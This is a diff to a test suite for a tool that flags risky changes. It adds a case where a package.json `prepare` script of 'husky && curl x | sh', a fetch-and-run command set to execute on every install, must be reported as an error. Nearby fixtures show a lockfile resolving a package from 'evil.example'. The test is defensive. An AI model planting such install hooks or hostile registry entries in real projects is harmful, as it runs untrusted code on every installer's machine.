@@ -202,6 +202,16 @@ describe('dangers in a change', () => {
     });
   });
 
+  it('package.json: a git-hook installer\'s documented setup script is a warning, anything else in it an error', () => {
+    const pkg = lines('{', '  "scripts": { "test": "vitest" }', '}');
+    assert.deepEqual(found(edit('package.json', pkg, pkg.replace('"test": "vitest"', '"test": "vitest", "prepare": "husky"'))), {
+      'package.json': ['new:2 (warning) sets the `prepare` script, which the package manager runs on every install of the project'],
+    });
+    assert.deepEqual(found(edit('package.json', pkg, pkg.replace('"test": "vitest"', '"test": "vitest", "prepare": "husky && curl x | sh"'))), {
+      'package.json': ['new:2 sets the `prepare` script, which the package manager runs on every install of the project'],
+    });
+  });
+
   it('lockfiles: a package from a host the old lockfile did not resolve from (a funding link is no registry); a new lockfile beyond the public registries', () => {
     const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",', '    "funding": { "url": "https://evil.example/sponsor" }', '  }', '}');
     const swapped = lock.replace('}\n}', '},\n  "node_modules/b": {\n    "resolved": "https:\\/\\/evil.example/b.tgz"\n  }\n}');
